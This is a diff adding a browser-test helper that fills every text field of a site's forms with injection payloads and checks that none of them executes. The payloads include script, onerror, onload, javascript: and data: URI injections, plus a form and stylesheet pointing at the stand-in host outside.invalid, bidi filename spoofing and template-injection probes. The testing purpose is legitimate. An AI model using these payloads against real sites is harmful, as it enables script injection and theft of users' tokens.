@@ -1,0 +1,49 @@
+// What is typed into every field that takes text. Whatever becomes of it, none of it may run,
+// load anything, or become markup.
+
+export const payloads = [
+  `"><script>window.__xss=1</script>`,
+  `'"><img src=x onerror="window.__xss=1">`,
+  `</textarea></title></style><svg/onload=window.__xss=1>`,
+  `javascript:window.__xss=1//`,
+  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
+  `<a href="data:text/html,<script>opener.__xss=1</script>">x</a>`,
+  `<style>@import "http://outside.invalid/x.css";</style><link rel=stylesheet href=//outside.invalid/y.css>`,
+  `<form action="//outside.invalid/"><input name=token><button>x`,
+  `\u202e\u2066gnp.exe\u2069 &lt;b&gt; %3Cscript%3E \\u003cscript\\u003e \${7*7} {{7*7}}`,
+];
+
+const text = "input:not([type]), input[type=text], input[type=search], input[type=url], input[type=date], input[type=number], textarea";
+
+// The search field stands on every page: it is tried on the first one.
+const forms = (page, path) => page.locator(path === "/" ? `form:has(${text})` : `main form:has(${text})`);
+
+/** How many forms the page has that take text. */
+export async function countForms(page, path) {
+  return forms(page, path).count();
+}
+
+/**
+ * Fill every text field of one form, each with another payload: over as many rounds as there are
+ * payloads each field gets each. Then press button number b. False: there is none.
+ */
+export async function sendForm(page, path, form, button, round) {
+  const target = forms(page, path).nth(form);
+  const buttons = target.locator("button:visible:not(.vh), input[type=submit]:visible:not(.vh)");
+  let number = round;
+
+  if (await buttons.count() <= button)
+    return false;
+  for (const field of await target.locator(text).all()) {
+    const type = await field.getAttribute("type");
+
+    number++;
+    if (type === "date" || type === "number")
+      continue; // a browser lets nothing else in; curl tries that (tests/cli)
+    if (await field.isVisible() && await field.isEditable())
+      await field.fill(payloads[number % payloads.length]);
+  }
+  await buttons.nth(button).click();
+  await page.waitForLoadState("load");
+  return true;
+}
